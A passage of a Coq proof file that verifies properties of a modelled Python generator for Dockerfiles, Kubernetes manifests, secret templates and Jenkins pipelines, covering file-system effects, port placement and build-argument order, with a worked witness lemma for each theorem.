    [makedirs].  In both cases the file system is left as it was. *)
Theorem regular_file_in_the_way_stops_the_request (app_name : string)
    (port node_port : jsval) (envs : list env) (st : state) :
  path_component app_name = true →
  fs_wf (fs st) →
  let P := cwd st ++ ["generated"; app_name] in
  let run := generate (request app_name port node_port envs) st in
  (Os.is_file (fs st) P = true →
     run.1 = Ok (Failure (NotADirectoryError (destination app_name)))
     ∧ fs run.2 = fs st)
  ∧ (Os.is_file (fs st) (cwd st ++ ["generated"]) = true →
     (∃ p, run.1 = Ok (Failure (NotADirectoryError p))) ∧ fs run.2 = fs st).
Proof.
  intros Hname Hwf P run. unfold run. rewrite generate_response. cbv zeta.
  rewrite generate_files_phases, prepare_run by done.
  cbn [cwd fs logged]. rewrite resolve_destination by done. fold P.
  split.
  - unfold Os.is_file. intros HP.
    destruct (Os.fs_get (fs st) P) as [[|c]|]; done.
  - intros Hgen.
    assert (fs st !! (cwd st ++ ["generated"]) ≠ None ∧ Os.fs_get (fs st) P = None)
      as [Hg HP].
    { unfold Os.is_file in Hgen. rewrite fs_get_stored in Hgen by apply snoc_stored.
      split; [by destruct (fs st !! _)|].
      destruct (Os.fs_get (fs st) P) as [e|] eqn:HP; [|done].
      rewrite fs_get_stored in HP by (unfold P; by destruct (cwd st)).
      destruct (Hwf P e HP) as [_ Hpar]. unfold Os.parent, P in Hpar.
      change ["generated"; app_name] with (["generated"] ++ [app_name]) in Hpar.
      rewrite app_assoc, removelast_last in Hpar.
      rewrite fs_get_stored in Hpar by apply snoc_stored.
      rewrite Hpar in Hgen. done. }
    rewrite HP.
    destruct (List.find _ _) as [q|] eqn:Hfind.
    + cbn [fst snd]. split; [|done].
      apply find_some in Hfind as [_ Hq].
      rewrite bool_decide_eq_false_2; [by eexists|]. intros ->.
      unfold Os.is_file in Hq. rewrite fs_get_stored in Hq by apply snoc_stored.
      rewrite lookup_remove_tree in Hq.
      rewrite decide_True in Hq by by apply prefix_app_r. done.
    + exfalso. rewrite find_none_iff in Hfind.
      specialize (Hfind (cwd st ++ ["generated"])).
      rewrite remove_tree_absent in Hfind by done.
      rewrite Hfind in Hgen; [done|]. apply elem_of_prefixes.
      split; [apply snoc_stored|]. unfold P.
      rewrite <- app_assoc. apply prefix_app, prefix_cons, prefix_nil.
Qed.

Lemma regular_file_in_the_way_stops_the_request_witness :
  path_component "orders-api" = true
  ∧ fs_wf (fs blocked_state)
  ∧ Os.is_file (fs blocked_state) (cwd blocked_state ++ ["generated"; "orders-api"]) = true
  ∧ (generate orders_request blocked_state).1
    = Ok (Failure (NotADirectoryError "generated/orders-api"))
  ∧ fs (generate orders_request blocked_state).2 = fs blocked_state.
Proof.
  assert (path_component "orders-api" = true) as Hp by (vm_compute; reflexivity).
  assert (fs_wf (fs blocked_state)) as Hwf
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  assert (Os.is_file (fs blocked_state)
            (cwd blocked_state ++ ["generated"; "orders-api"]) = true) as Hfile
    by (vm_compute; reflexivity).
  split; [exact Hp|]. split; [exact Hwf|]. split; [exact Hfile|].
  destruct (regular_file_in_the_way_stops_the_request "orders-api" (JInt 8080)
              (JInt 30080) orders_envs blocked_state Hp Hwf) as [H _].
  exact (H Hfile).
Defined.

(** X6. A request with a one-component name, whatever its outcome,
    changes nothing outside its own destination: a path that is neither at
    or below [generated/<name>] nor one of the directories above it holds
    afterwards what it held before.  In particular the bundles of other
    applications are left alone. *)
Theorem other_paths_are_left_alone (app_name : string)
    (port node_port : jsval) (envs : list env) (st : state) (q : path) :
  path_component app_name = true →
  fs_wf (fs st) →
  let P := cwd st ++ ["generated"; app_name] in
  ¬ P `prefix_of` q → ¬ q `prefix_of` P →
  fs (generate (request app_name port node_port envs) st).2 !! q = fs st !! q.
Proof.
  intros Hname Hwf P Hbelow Habove.
  rewrite generate_response. cbv zeta. cbn [snd].
  destruct (generate_files _ _ _ _ _ _) as [r st'] eqn:Hrun. cbn [snd].
  apply (generate_files_outcomes _ _ _ _ _ (logged "generate" st) Hwf) in Hrun.
  cbn [cwd fs logged] in Hrun. rewrite resolve_destination in Hrun by done.
  destruct Hrun as [(e & _ & ->)|(k & _ & -> & _)]; [done|].
  by apply written_outside.
Qed.

Lemma other_paths_are_left_alone_witness :
  path_component "billing" = true
  ∧ fs_wf (fs old_state)
  ∧ fs (generate (request "billing" (JInt 8080) (JInt 30080) []) old_state).2
      !! ["srv"; "generated"; "orders-api"; "notes.txt"]
    = Some (File "keep me").
Proof.
  assert (path_component "billing" = true) as Hp by (vm_compute; reflexivity).
  assert (fs_wf (fs old_state)) as Hwf
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  split; [exact Hp|]. split; [exact Hwf|].
  rewrite (other_paths_are_left_alone "billing" (JInt 8080) (JInt 30080) []
             old_state ["srv"; "generated"; "orders-api"; "notes.txt"] Hp Hwf).
  - vm_compute. reflexivity.
  - apply (bool_decide_unpack _). vm_compute. reflexivity.
  - apply (bool_decide_unpack _). vm_compute. reflexivity.
Defined.

(** X7. Generating twice is generating once: after a successful
    request, the same request run again gives the same answer and leaves
    the same file system.  (The second run removes the first bundle and
    writes it anew.) *)
Theorem regeneration_gives_the_same_files (app_name : string)
    (port node_port : jsval) (envs : list env) (names : list string)
    (st : state) :
  path_component app_name = true →
  Template.env_names envs = Ok names →
  destination_free st app_name →
  let data := request app_name port node_port envs in
  let once := generate data st in
  let twice := generate data once.2 in
  twice.1 = once.1 ∧ fs twice.2 = fs once.2.
Proof.
  intros Hname Hnames Hfree data once twice.
  pose proof (destination_free_again _ port node_port _ _ _ Hname Hnames Hfree)
    as Hagain. fold data once in Hagain.
  unfold twice, data.
  rewrite (generate_ok _ _ _ _ _ _ Hname Hnames Hagain).
  unfold once, data. rewrite (generate_ok _ _ _ _ _ _ Hname Hnames Hfree).
  cbn [fst snd cwd fs]. split; [done|].
  set (P := cwd st ++ ["generated"; app_name]).
  set (K := P ++ ["k8s"]).
  set (bundle := artifacts _ _ _ _ _).
  f_equal. apply map_eq. intros q.
  rewrite !lookup_make_dirs. case_decide as Hq; [done|].
  rewrite !lookup_remove_tree. case_decide as HP; [done|].
  rewrite written_frame.
  - rewrite lookup_make_dirs, decide_False by done.
    by rewrite lookup_remove_tree, decide_False.
  - eapply Forall_impl; [apply (bundle_below app_name port node_port envs st Hname)|].
    intros w [Hw _] E. apply HP. by rewrite <- E.
Qed.

Lemma regeneration_gives_the_same_files_witness :
  path_component "orders-api" = true
  ∧ Template.env_names orders_envs = Ok ["DB_URL"; "API_KEY"]
  ∧ destination_free old_state "orders-api"
  ∧ fs (generate orders_request (generate orders_request old_state).2).2
    = fs (generate orders_request old_state).2.
Proof.
  assert (path_component "orders-api" = true) as Hp by (vm_compute; reflexivity).
  assert (Template.env_names orders_envs = Ok ["DB_URL"; "API_KEY"]) as Hn
    by (vm_compute; reflexivity).
  assert (destination_free old_state "orders-api") as Hf
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  split; [exact Hp|]. split; [exact Hn|]. split; [exact Hf|].
  destruct (regeneration_gives_the_same_files "orders-api" (JInt 8080) (JInt 30080)
              orders_envs _ old_state Hp Hn Hf) as [_ Hfs].
  exact Hfs.
Defined.

(** X9. For every request with a one-component name and named
    variables on a free destination, when the names fit on a line: the
    build file declares one build argument for each variable, in the order
    of [envs] and with repetitions kept, and then PORT. *)
Theorem build_file_declares_the_variables_in_order (app_name : string)
    (port node_port : jsval) (envs : list env) (names : list string)
    (st : state) :
  path_component app_name = true →
  Template.env_names envs = Ok names →
  Forall (λ n, Text.single_line n = true) names →
  destination_free st app_name →
  let run := generate (request app_name port node_port envs) st in
  (Dockerfile.build_args
     <$> Os.read_file run.2 (dockerfile_path (destination app_name)))
  = Some (names ++ ["PORT"]).
Proof.
  intros Hname Hnames Hlines Hfree run.
  destruct (generate_reads _ port node_port _ _ _ Hname Hnames Hfree)
    as (_ & Hdf & _).
  unfold run. rewrite Hdf. cbn [fmap option_fmap option_map].
  by rewrite dockerfile_build_args.
Qed.

Lemma build_file_declares_the_variables_in_order_witness :
  path_component "My_App" = true
  ∧ Template.env_names shouting_envs = Ok ["TOKEN"; "TOKEN"]
  ∧ Forall (λ n, Text.single_line n = true) ["TOKEN"; "TOKEN"]
  ∧ destination_free empty_state "My_App"
  ∧ (Dockerfile.build_args
       <$> Os.read_file
             (generate (request "My_App" (JInt 8080) (JInt 30080) shouting_envs)
                empty_state).2
             (dockerfile_path (destination "My_App")))
    = Some ["TOKEN"; "TOKEN"; "PORT"].
Proof.
  assert (path_component "My_App" = true) as Hp by (vm_compute; reflexivity).
  assert (Template.env_names shouting_envs = Ok ["TOKEN"; "TOKEN"]) as Hn
    by (vm_compute; reflexivity).
  assert (Forall (λ n, Text.single_line n = true) ["TOKEN"; "TOKEN"]) as Hl
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  assert (destination_free empty_state "My_App") as Hf
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  split; [exact Hp|]. split; [exact Hn|]. split; [exact Hl|]. split; [exact Hf|].
  exact (build_file_declares_the_variables_in_order "My_App" (JInt 8080)
           (JInt 30080) shouting_envs _ empty_state Hp Hn Hl Hf).
Defined.

(** X10. For variable names that are identifiers: the ENV
    instruction of the generated build file exports every variable under
    its own name with the default [${NAME}], in the order of [envs], and
    PORT last; so the names it exports are exactly the build arguments the
    file declares. *)
Theorem build_file_exports_every_build_argument (app_name : string)
    (port node_port : jsval) (envs : list env) (names : list string)
    (st : state) :
  path_component app_name = true →
  Template.env_names envs = Ok names →
  Forall (λ n, identifier n = true) names →
  destination_free st app_name →
  let run := generate (request app_name port node_port envs) st in
  let text := Os.read_file run.2 (dockerfile_path (destination app_name)) in
  (BuildFile.env_defaults <$> text)
  = Some (map (λ n, (n, "${" +:+ n +:+ "}")) names ++ [("PORT", "${PORT}")])
  ∧ (map fst <$> (BuildFile.env_defaults <$> text))
    = (Dockerfile.build_args <$> text).
Proof.
  intros Hname Hnames Hids Hfree run text.
  destruct (generate_reads _ port node_port _ _ _ Hname Hnames Hfree)
    as (_ & Hdf & _).
  unfold text, run. rewrite Hdf. cbn [fmap option_fmap option_map].
  rewrite dockerfile_env_defaults by done.
  rewrite dockerfile_build_args
    by (eapply Forall_impl; [exact Hids|]; intros n; apply identifier_single_line).
  split; [done|]. f_equal. rewrite map_app, map_map. cbn [map fst].
  f_equal. by rewrite map_id.
Qed.

Lemma build_file_exports_every_build_argument_witness :
  path_component "orders-api" = true
  ∧ Template.env_names orders_envs = Ok ["DB_URL"; "API_KEY"]
  ∧ Forall (λ n, identifier n = true) ["DB_URL"; "API_KEY"]
  ∧ destination_free old_state "orders-api"
  ∧ (BuildFile.env_defaults
       <$> Os.read_file (generate orders_request old_state).2
             (dockerfile_path (destination "orders-api")))
    = Some [("DB_URL", "${DB_URL}"); ("API_KEY", "${API_KEY}"); ("PORT", "${PORT}")].
Proof.
  assert (path_component "orders-api" = true) as Hp by (vm_compute; reflexivity).
  assert (Template.env_names orders_envs = Ok ["DB_URL"; "API_KEY"]) as Hn
    by (vm_compute; reflexivity).
  assert (Forall (λ n, identifier n = true) ["DB_URL"; "API_KEY"]) as Hi
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  assert (destination_free old_state "orders-api") as Hf
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  split; [exact Hp|]. split; [exact Hn|]. split; [exact Hi|]. split; [exact Hf|].
  destruct (build_file_exports_every_build_argument "orders-api" (JInt 8080)
              (JInt 30080) orders_envs _ old_state Hp Hn Hi Hf) as [H _].
  exact H.
Defined.

(** X11. For every request with a one-line, one-component name,
    ports that Python prints on one line and named variables, on a free
    destination: the container port of the
    workload is the [port] of the request under the name [http]; the
    service is of type NodePort, its [port] and [targetPort] are the
    [port] and its [nodePort] is the [node_port] of the request, each as
    Python prints it. *)
Theorem manifests_carry_the_ports (app_name : string) (port node_port : jsval)
    (envs : list env) (names : list string) (st : state) :
  path_component app_name = true →
  Text.single_line app_name = true →
  Text.single_line (py_str port) = true →
  Text.single_line (py_str node_port) = true →
  Template.env_names envs = Ok names →
  destination_free st app_name →
  let dest := destination app_name in
  let run := generate (request app_name port node_port envs) st in
  let container := ["spec"; "template"; "spec"; "containers"] in
  ∃ dep svc,
    Os.read_file run.2 (deployment_path dest app_name) = Some dep
    ∧ Os.read_file run.2 (service_path dest app_name) = Some svc
    ∧ Yaml.get (container ++ ["ports"; "containerPort"]) dep = Some (py_str port)
    ∧ Yaml.get (container ++ ["ports"; "name"]) dep = Some "http"
    ∧ Yaml.get ["spec"; "type"] svc = Some "NodePort"
    ∧ Yaml.get ["spec"; "ports"; "port"] svc = Some (py_str port)
    ∧ Yaml.get ["spec"; "ports"; "targetPort"] svc = Some (py_str port)
    ∧ Yaml.get ["spec"; "ports"; "nodePort"] svc = Some (py_str node_port).
Proof.
  intros Hname Hline Hport Hnode Hnames Hfree dest run container.
  destruct (generate_reads _ port node_port _ _ _ Hname Hnames Hfree)
    as (_ & _ & Hdep & Hsvc & _).
  exists (Template.deployment app_name port),
         (Template.service app_name port node_port).
  split; [exact Hdep|]. split; [exact Hsvc|].
  exact (manifest_ports app_name port node_port Hline Hport Hnode).
Qed.

Lemma manifests_carry_the_ports_witness :
  path_component "orders-api" = true
  ∧ Text.single_line "orders-api" = true
  ∧ Text.single_line (py_str (JInt 8080)) = true
  ∧ Text.single_line (py_str (JInt 30080)) = true
  ∧ Template.env_names orders_envs = Ok ["DB_URL"; "API_KEY"]
  ∧ destination_free empty_state "orders-api"
  ∧ ∃ svc,
      Os.read_file (generate orders_request empty_state).2
        (service_path (destination "orders-api") "orders-api") = Some svc
      ∧ Yaml.get ["spec"; "ports"; "nodePort"] svc = Some "30080".
Proof.
  assert (path_component "orders-api" = true) as Hp by (vm_compute; reflexivity).
  assert (Text.single_line "orders-api" = true) as Hl by (vm_compute; reflexivity).
  assert (Text.single_line (py_str (JInt 8080)) = true) as H1
    by (vm_compute; reflexivity).
  assert (Text.single_line (py_str (JInt 30080)) = true) as H2
    by (vm_compute; reflexivity).
  assert (Template.env_names orders_envs = Ok ["DB_URL"; "API_KEY"]) as Hn
    by (vm_compute; reflexivity).
  assert (destination_free empty_state "orders-api") as Hf
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  split; [exact Hp|]. split; [exact Hl|]. split; [exact H1|]. split; [exact H2|].
  split; [exact Hn|]. split; [exact Hf|].
  destruct (manifests_carry_the_ports "orders-api" (JInt 8080) (JInt 30080)
              orders_envs _ empty_state Hp Hl H1 H2 Hn Hf)
    as (dep & svc & _ & Hsvc & _ & _ & _ & _ & _ & Hnode).
  exists svc. split; [exact Hsvc|exact Hnode].
Defined.

(** X12. A request without [port] and [node_port] is not turned
    down: for a one-line, one-component name and named variables on a
    free destination, [data.get] gives [None] for both, the request
    succeeds, and the
    workload and the service carry the text [None] as container port,
    port, target port and node port. *)
Theorem missing_ports_are_written_as_None (app_name : string)
    (envs : list env) (names : list string) (st : state) :
  path_component app_name = true →
  Text.single_line app_name = true →
  Template.env_names envs = Ok names →
  destination_free st app_name →
  let dest := destination app_name in
  let run := generate (mkRequest (Some app_name) JNull JNull (Some envs)) st in
  let container := ["spec"; "template"; "spec"; "containers"] in
  ∃ dep svc,
    run.1 = Ok (Success ("Fichiers générés dans " +:+ dest))
    ∧ Os.read_file run.2 (deployment_path dest app_name) = Some dep
    ∧ Os.read_file run.2 (service_path dest app_name) = Some svc
    ∧ Yaml.get (container ++ ["ports"; "containerPort"]) dep = Some "None"
    ∧ Yaml.get ["spec"; "ports"; "port"] svc = Some "None"
    ∧ Yaml.get ["spec"; "ports"; "targetPort"] svc = Some "None"
    ∧ Yaml.get ["spec"; "ports"; "nodePort"] svc = Some "None".
Proof.
  intros Hname Hline Hnames Hfree dest run container.
  destruct (generate_reads _ JNull JNull _ _ _ Hname Hnames Hfree)
    as (Hrun & _ & Hdep & Hsvc & _).
  exists (Template.deployment app_name JNull),
         (Template.service app_name JNull JNull).
  split; [exact Hrun|]. split; [exact Hdep|]. split; [exact Hsvc|].
  assert (Text.single_line (py_str JNull) = true) as Hnone by (vm_compute; reflexivity).
  destruct (manifest_ports app_name JNull JNull Hline Hnone Hnone)
    as (H1 & _ & _ & H2 & H3 & H4).
  done.
Qed.

Lemma missing_ports_are_written_as_None_witness :
  path_component "orders-api" = true
  ∧ Text.single_line "orders-api" = true
  ∧ Template.env_names orders_envs = Ok ["DB_URL"; "API_KEY"]
  ∧ destination_free empty_state "orders-api"
  ∧ ∃ svc,
      Os.read_file
        (generate (mkRequest (Some "orders-api") JNull JNull (Some orders_envs))
           empty_state).2
        (service_path (destination "orders-api") "orders-api") = Some svc
      ∧ Yaml.get ["spec"; "ports"; "nodePort"] svc = Some "None".
Proof.
  assert (path_component "orders-api" = true) as Hp by (vm_compute; reflexivity).
  assert (Text.single_line "orders-api" = true) as Hl by (vm_compute; reflexivity).
  assert (Template.env_names orders_envs = Ok ["DB_URL"; "API_KEY"]) as Hn
    by (vm_compute; reflexivity).
  assert (destination_free empty_state "orders-api") as Hf
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  split; [exact Hp|]. split; [exact Hl|]. split; [exact Hn|]. split; [exact Hf|].
  destruct (missing_ports_are_written_as_None "orders-api" orders_envs _
              empty_state Hp Hl Hn Hf)
    as (dep & svc & _ & _ & Hsvc & _ & _ & _ & Hnode).
  exists svc. split; [exact Hsvc|exact Hnode].
Defined.

(** X13. The constants of the manifests do not depend on the
    request (for a one-line, one-component name, ports that Python prints
    on one line and named variables, on a free destination): all three
    are in the namespace [pnud-agvm]; the workload runs
    the image placeholder [${FULL_IMAGE_NAME}] in one replica with
    requests of 200m CPU and 256Mi memory and limits of 1000m and 1Gi; the
    autoscaler keeps between 1 and 5 replicas at a CPU utilization of
    50. *)
Theorem manifests_carry_the_fixed_policy (app_name : string)
    (port node_port : jsval) (envs : list env) (names : list string)
    (st : state) :
  path_component app_name = true →
  Text.single_line app_name = true →
  Text.single_line (py_str port) = true →
  Text.single_line (py_str node_port) = true →
  Template.env_names envs = Ok names →
  destination_free st app_name →
  let dest := destination app_name in
  let run := generate (request app_name port node_port envs) st in
  let container := ["spec"; "template"; "spec"; "containers"] in
  ∃ dep svc hpa,
    Os.read_file run.2 (deployment_path dest app_name) = Some dep
    ∧ Os.read_file run.2 (service_path dest app_name) = Some svc
    ∧ Os.read_file run.2 (hpa_path dest app_name) = Some hpa
    ∧ Yaml.get ["metadata"; "namespace"] dep = Some "pnud-agvm"
    ∧ Yaml.get ["metadata"; "namespace"] svc = Some "pnud-agvm"
    ∧ Yaml.get ["metadata"; "namespace"] hpa = Some "pnud-agvm"
    ∧ Yaml.get (container ++ ["image"]) dep = Some "${FULL_IMAGE_NAME}"
    ∧ Yaml.get ["spec"; "replicas"] dep = Some "1"
    ∧ map (λ ks, Yaml.get (container ++ "resources" :: ks) dep)
        [["requests"; "cpu"]; ["requests"; "memory"];
         ["limits"; "cpu"]; ["limits"; "memory"]]
      = [Some (Text.q "200m"); Some (Text.q "256Mi");
         Some (Text.q "1000m"); Some (Text.q "1Gi")]
    ∧ Yaml.get ["spec"; "minReplicas"] hpa = Some "1"
    ∧ Yaml.get ["spec"; "maxReplicas"] hpa = Some "5"
    ∧ Yaml.get ["spec"; "metrics"; "resource"; "name"] hpa = Some "cpu"
    ∧ Yaml.get ["spec"; "metrics"; "resource"; "target"; "type"] hpa
      = Some "Utilization"
    ∧ Yaml.get ["spec"; "metrics"; "resource"; "target"; "averageUtilization"] hpa
      = Some "50".
Proof.
  intros Hname Hline Hport Hnode Hnames Hfree dest run container.
  destruct (generate_reads _ port node_port _ _ _ Hname Hnames Hfree)
    as (_ & _ & Hdep & Hsvc & Hhpa).
  exists (Template.deployment app_name port),
         (Template.service app_name port node_port), (Template.hpa app_name).
  split; [exact Hdep|]. split; [exact Hsvc|]. split; [exact Hhpa|].
  exact (manifest_policy app_name port node_port Hline Hport Hnode).
Qed.

Lemma manifests_carry_the_fixed_policy_witness :
  path_component "orders-api" = true
  ∧ Text.single_line "orders-api" = true
  ∧ Text.single_line (py_str (JInt 8080)) = true
  ∧ Text.single_line (py_str (JInt 30080)) = true
  ∧ Template.env_names orders_envs = Ok ["DB_URL"; "API_KEY"]
  ∧ destination_free old_state "orders-api"
  ∧ ∃ hpa,
      Os.read_file (generate orders_request old_state).2
        (hpa_path (destination "orders-api") "orders-api") = Some hpa
      ∧ Yaml.get ["spec"; "maxReplicas"] hpa = Some "5".
Proof.
  assert (path_component "orders-api" = true) as Hp by (vm_compute; reflexivity).
  assert (Text.single_line "orders-api" = true) as Hl by (vm_compute; reflexivity).
  assert (Text.single_line (py_str (JInt 8080)) = true) as H1
    by (vm_compute; reflexivity).
  assert (Text.single_line (py_str (JInt 30080)) = true) as H2
    by (vm_compute; reflexivity).
  assert (Template.env_names orders_envs = Ok ["DB_URL"; "API_KEY"]) as Hn
    by (vm_compute; reflexivity).
  assert (destination_free old_state "orders-api") as Hf
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  split; [exact Hp|]. split; [exact Hl|]. split; [exact H1|]. split; [exact H2|].
  split; [exact Hn|]. split; [exact Hf|].
  destruct (manifests_carry_the_fixed_policy "orders-api" (JInt 8080) (JInt 30080)
              orders_envs _ old_state Hp Hl H1 H2 Hn Hf)
    as (dep & svc & hpa & _ & _ & Hhpa & _ & _ & _ & _ & _ & _ & _ & Hmax & _).
  exists hpa. split; [exact Hhpa|exact Hmax].
Defined.

(** X14. The secret template that a call of [write_secret_yaml]
    leaves is a Secret in the namespace placeholder [${NAMESPACE}] whose
    [stringData] has one entry for each variable, in the order of
    [var_names]; the value of an entry is the quoted placeholder
    ["${NAME}"] of its variable.  (For a one-line application name and
    variable names that are identifiers, and a secret file that can be
    opened at a path of proper names.) *)
Theorem secret_template_lists_the_variables (app_name : string)
    (var_names : list string) (output_path : string) (st : state) :
  Text.single_line app_name = true →
  Forall (λ v, identifier v = true) var_names →
  writable st output_path →
  let direct := write_secret_yaml module_globals app_name var_names output_path st in
  ∃ text,
    Os.read_file direct.2 output_path = Some text
    ∧ Yaml.get ["kind"] text = Some "Secret"
    ∧ Yaml.get ["metadata"; "namespace"] text = Some "${NAMESPACE}"
    ∧ Yaml.keys_at ["stringData"] text = Some var_names
    ∧ ∀ var, var ∈ var_names →
        Yaml.get ["stringData"; var] text = Some (Text.q ("${" +:+ var +:+ "}")).
Proof.
  intros Happ Hvars [_ Hc] direct. exists (secret_text app_name var_names).
  assert (Forall (λ v, Text.single_line v = true) var_names) as Hsingle
    by (eapply Forall_impl; [exact Hvars|]; intros v; apply identifier_single_line).
  split.
  { unfold direct. rewrite write_secret_yaml_run by done.
    unfold Os.read_file. cbn [fst snd cwd fs].
    destruct Hc as (Hne & _). rewrite fs_get_stored by done.
    by rewrite lookup_insert_eq. }
  destruct (secret_header_fields app_name var_names Happ Hsingle) as (Hk & Hn & _).
  destruct (secret_entries app_name var_names Happ Hvars) as [Hkeys Hvals].
  done.
Qed.

Lemma secret_template_lists_the_variables_witness :
  Text.single_line "orders-api" = true
  ∧ Forall (λ v, identifier v = true) ["DB_URL"; "API_KEY"]
  ∧ writable old_state "generated/orders-api/k8s/orders-api-secret.yaml"
  ∧ ∃ text,
      Os.read_file
        (write_secret_yaml module_globals "orders-api" ["DB_URL"; "API_KEY"]
           "generated/orders-api/k8s/orders-api-secret.yaml" old_state).2
        "generated/orders-api/k8s/orders-api-secret.yaml" = Some text
      ∧ Yaml.keys_at ["stringData"] text = Some ["DB_URL"; "API_KEY"].
Proof.
  assert (Text.single_line "orders-api" = true) as Ha by (vm_compute; reflexivity).
  assert (Forall (λ v, identifier v = true) ["DB_URL"; "API_KEY"]) as Hv
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  assert (writable old_state "generated/orders-api/k8s/orders-api-secret.yaml") as Hc
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  split; [exact Ha|]. split; [exact Hv|]. split; [exact Hc|].
  destruct (secret_template_lists_the_variables "orders-api" ["DB_URL"; "API_KEY"]
              _ old_state Ha Hv Hc) as (text & Hread & _ & _ & Hkeys & _).
  exists text. split; [exact Hread|exact Hkeys].
Defined.

(** X15. The body of [write_secret_yaml] reads [output_dir] when it
    opens the Jenkinsfile and [port], [node_port] and [envs], in this
    order, when it formats the first text for it.  Under bindings that
    leave one of them unbound, a call writes the secret template and
    raises the [NameError] of the first unbound name in that order; when
    [output_dir] is bound, the Jenkinsfile has been created by then and is
    left empty. *)
Theorem unbound_names_are_met_in_order (g : globals) (app_name : string)
    (var_names : list string) (output_path : string) (st : state)
    (name : string) :
  first_unbound g = Some name →
  writable st output_path →
  (∀ d, g_output_dir g = Some d → writable st (jenkinsfile_path d)) →
  let run := write_secret_yaml g app_name var_names output_path st in
  let secret := <[Os.resolve (cwd st) output_path
                  := File (secret_text app_name var_names)]> (fs st) in
  run.1 = Raise (NameError name)
  ∧ fs run.2
    = match g_output_dir g with
      | None => secret
      | Some d =>
          <[Os.resolve (cwd st) (jenkinsfile_path d) := File EmptyString]> secret
      end.
Proof.
  intros Hfirst [_ Hc] Hj run secret. unfold run.
  rewrite write_secret_yaml_secret by done. fold secret.
  unfold first_unbound in Hfirst.
  destruct (g_output_dir g) as [d|]; [|by injection Hfirst as <-].
  rewrite run_bind. cbv beta iota delta [global ret]. rewrite run_bind.
  pose proof (creatable_after_secret st output_path (jenkinsfile_path d)
                (secret_text app_name var_names) Hc (proj2 (Hj d eq_refl)))
    as (HJ & HJpar & HJnd).
  fold secret in HJ, HJpar, HJnd. cbn [cwd fs set_fs logged] in HJ, HJpar, HJnd.
  fold (jenkinsfile_path d).
  rewrite (open_w_ok (jenkinsfile_path d)) by done.
  cbv beta iota. cbn [cwd fs set_fs logged].
  destruct (g_port g) as [p|]; [|by injection Hfirst as <-].
  rewrite run_bind. cbv beta iota delta [global ret].
  destruct (g_node_port g) as [n|]; [|by injection Hfirst as <-].
  rewrite run_bind. cbv beta iota delta [global ret].
  destruct (g_envs g) as [e|]; [done|by injection Hfirst as <-].
Qed.

Lemma unbound_names_are_met_in_order_witness :
  first_unbound half_bound_globals = Some "node_port"
  ∧ writable old_state "generated/orders-api/k8s/orders-api-secret.yaml"
  ∧ (∀ d, g_output_dir half_bound_globals = Some d →
       writable old_state (jenkinsfile_path d))
  ∧ (write_secret_yaml half_bound_globals "orders-api" ["DB_URL"; "API_KEY"]
       "generated/orders-api/k8s/orders-api-secret.yaml" old_state).1
    = Raise (NameError "node_port")
  ∧ Os.read_file
      (write_secret_yaml half_bound_globals "orders-api" ["DB_URL"; "API_KEY"]
         "generated/orders-api/k8s/orders-api-secret.yaml" old_state).2
      "generated/orders-api/Jenkinsfile" = Some EmptyString.
Proof.
  assert (first_unbound half_bound_globals = Some "node_port") as Hu by reflexivity.
  assert (writable old_state "generated/orders-api/k8s/orders-api-secret.yaml") as Hc
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  assert (∀ d, g_output_dir half_bound_globals = Some d →
            writable old_state (jenkinsfile_path d)) as Hj.
  { intros d [= <-]. apply (bool_decide_unpack _). vm_compute. reflexivity. }
  split; [exact Hu|]. split; [exact Hc|]. split; [exact Hj|].
  destruct (unbound_names_are_met_in_order half_bound_globals "orders-api"
              ["DB_URL"; "API_KEY"] _ old_state "node_port" Hu Hc Hj) as [H Hfs].
  split; [exact H|].
  unfold Os.read_file. rewrite Hfs. vm_compute. reflexivity.
Defined.

(** X16. With the four names bound, a one-line application name,
    ports that Python prints on one line, and entries of [envs] that have
    an identifier as name and a one-line secret id without a comma, a call
    of [write_secret_yaml] whose two files can be opened succeeds and
    writes a pipeline definition whose
    build stage binds one credential for each variable, in the order of
    [envs], and passes each variable and then PORT as build arguments:
    exactly the build arguments that the build file for the same
    variables declares. *)
Theorem bound_pipeline_agrees_with_the_build_file (app_name : string)
    (port node_port : jsval) (envs : list env) (var_names : list string)
    (output_path output_dir : string) (st : state) :
  Text.single_line app_name = true →
  Text.single_line (py_str port) = true →
  Text.single_line (py_str node_port) = true →
  forallb binding_ok envs = true →
  writable st output_path →
  writable st (jenkinsfile_path output_dir) →
  let run := write_secret_yaml (bound_globals output_dir port node_port envs)
               app_name var_names output_path st in
  ∃ pipeline,
    run.1 = Ok tt
    ∧ pipeline_of run.2 output_dir = Some pipeline
    ∧ Pipeline.credential_vars pipeline = declared_names envs
    ∧ Pipeline.build_args pipeline = declared_names envs ++ ["PORT"]
    ∧ Pipeline.build_args pipeline
      = Dockerfile.build_args (Template.dockerfile (declared_names envs)).
Proof.
  intros Hname Hport Hnode Hall [_ Hc] [_ Hj] run.
  pose proof (bindings_complete envs Hall) as Hcomplete.
  exists (pipeline_text app_name port node_port envs).
  unfold run. rewrite write_secret_yaml_bound by done. cbn [fst snd].
  split; [done|]. split.
  { unfold pipeline_of, Os.read_file. cbn [cwd fs].
    destruct Hj as (Hne & _). rewrite fs_get_stored by done.
    by rewrite lookup_insert_eq. }
  rewrite declared_names_names by done.
  rewrite pipeline_credential_vars, pipeline_build_args by done.
  split; [done|]. split; [done|].
  rewrite dockerfile_build_args; [done|].
  apply Forall_forall. intros n (e & -> & He)%list_elem_of_fmap.
  rewrite forallb_forall in Hall.
  apply list_elem_of_In, Hall, binding_ok_inv in He as (_ & Hid & _).
  by apply identifier_single_line.
Qed.

Lemma bound_pipeline_agrees_with_the_build_file_witness :
  Text.single_line "orders-api" = true
  ∧ Text.single_line (py_str (JInt 8080)) = true
  ∧ Text.single_line (py_str (JInt 30080)) = true
  ∧ forallb binding_ok orders_envs = true
  ∧ writable old_state "generated/orders-api/k8s/orders-api-secret.yaml"
